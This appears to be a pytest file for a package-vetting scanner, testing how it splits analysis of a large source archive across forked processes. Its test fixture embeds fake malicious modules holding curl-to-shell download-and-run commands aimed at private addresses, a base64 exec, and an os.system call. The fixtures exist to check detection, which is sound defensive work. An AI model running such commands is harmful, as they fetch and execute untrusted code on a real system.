"""The forked helper that lets one large archive use two cores, and its fall-backs."""

from __future__ import annotations

import os
import time

import pytest
from test_engine import make_sdist

from pipvet.analysis import forked
from pipvet.analysis.context import FileContext, PackageContext
from pipvet.analysis.engine import analyze_bytes
from pipvet.analysis.rules import ALL_RULES
from pipvet.models import Finding, Severity

pytestmark = pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")


def test_child_result_comes_back() -> None:
    pending = forked.start(lambda: {"pid": os.getpid(), "data": list(range(100_000))})
    assert pending is not None
    value = pending.result(time.perf_counter() + 30)
    assert value is not None
    assert value["pid"] != os.getpid()
    assert value["data"] == list(range(100_000))  # more than a pipe buffer


def test_failing_child_gives_none() -> None:
    def boom() -> int:
        raise RuntimeError("rule bug")

    pending = forked.start(boom)
    assert pending is not None
    assert pending.result(time.perf_counter() + 30) is None


def test_child_past_its_deadline_is_killed() -> None:
    pending = forked.start(lambda: time.sleep(60))
    assert pending is not None
    started = time.perf_counter()
    assert pending.result(time.perf_counter() + 0.5) is None
    assert time.perf_counter() - started < 30


def test_not_available_in_a_threaded_process() -> None:
    import threading

    stop = threading.Event()
    thread = threading.Thread(target=stop.wait)
    thread.start()
    try:
        assert not forked.available()
    finally:
        stop.set()
        thread.join()


def _big_package() -> bytes:
    """An sdist above the fork threshold, with findings spread over many modules."""
    files: dict[str, bytes | str] = {"setup.py": "from setuptools import setup\nsetup(name='demo')\n"}
    filler = "".join(f"def f{i}(x):\n    return x + {i}\n" for i in range(2000))
    for n in range(12):
        files[f"pkg/m{n}.py"] = (
            "import base64, os\n"
            f"os.system('curl -s http://10.0.0.{n}/x | sh')\n"
            "exec(base64.b64decode('cHJpbnQoMSk='))\n" + filler
        )
    files["pkg/__init__.py"] = "import os\ndef broken(:\nos.system('id')\n"
    return make_sdist(files)


def _summary(data: bytes) -> tuple[str, int, list[tuple[str, str | None, int | None]]]:
    result = analyze_bytes(data, "demo-1.0.tar.gz").result
    return result.verdict.value, result.score, [(f.rule, f.path, f.line) for f in result.findings]


def test_forked_and_serial_analysis_agree(monkeypatch: pytest.MonkeyPatch) -> None:
    data = _big_package()
    started: list[int] = []
    real_start = forked.start

    def counting_start(work):  # type: ignore[no-untyped-def]
        started.append(1)
        return real_start(work)

    monkeypatch.setattr(forked, "available", lambda: True)
    monkeypatch.setattr(forked, "start", counting_start)
    split = _summary(data)
    assert started, "the archive is large enough to be shared with a child"
    monkeypatch.setattr(forked, "available", lambda: False)
    serial = _summary(data)
    assert split == serial
    assert split[0] == "malicious"
    assert any(rule == "PV-ENGINE-UNPARSED" for rule, _, _ in split[2])


def test_rules_see_every_file_once_across_shares(monkeypatch: pytest.MonkeyPatch) -> None:
    class Marker:
        id = "TEST-FILE"
        title = "one finding per file"
        severity = Severity.INFO
        rationale = "coverage check"

        def check(self, file: FileContext, package: PackageContext) -> list[Finding]:
            return [Finding(rule=self.id, severity=self.severity, title=self.title, message=file.path)]

    monkeypatch.setattr(forked, "available", lambda: True)
    result = analyze_bytes(_big_package(), "demo-1.0.tar.gz", rules=[Marker(), *ALL_RULES]).result
    marked = [f.message for f in result.findings if f.rule == "TEST-FILE"]
    assert len(marked) == len(set(marked)) == 14  # setup.py, __init__.py and 12 modules


def test_claims_hand_every_position_out_once_across_a_fork() -> None:
    count = 3000  # more positions than tokens: handed out in runs
    with forked.Claims(count) as claims:
        pending = forked.start(lambda: list(claims))
        assert pending is not None
        mine = list(claims)
        theirs = pending.result(time.perf_counter() + 30)
    assert theirs is not None
    assert sorted(mine + theirs) == list(range(count))


def test_claims_of_nothing_and_of_one() -> None:
    with forked.Claims(0) as claims:
        assert list(claims) == []
    with forked.Claims(1) as claims:
        assert list(claims) == [0]
        assert list(claims) == []


class _DeadChild:
    """A forked child that died before reporting anything."""

    def result(self, deadline: float) -> None:
        return None


@pytest.mark.parametrize("claimed", [0, 2])
def test_files_a_failed_child_had_claimed_are_analysed_by_the_parent(
    monkeypatch: pytest.MonkeyPatch, claimed: int
) -> None:
    data = _big_package()
    monkeypatch.setattr(forked, "available", lambda: False)
    serial = _summary(data)

    def start(work):  # type: ignore[no-untyped-def]
        # The child took the `claimed` largest files, then died.
        cells = [c.cell_contents for c in work.__closure__ or ()]
        claims = next(c for c in cells if isinstance(c, forked.Claims))
        taken = iter(claims)
        for _ in range(claimed):
            next(taken)
        return _DeadChild()

    monkeypatch.setattr(forked, "available", lambda: True)
    monkeypatch.setattr(forked, "start", start)
    assert _summary(data) == serial
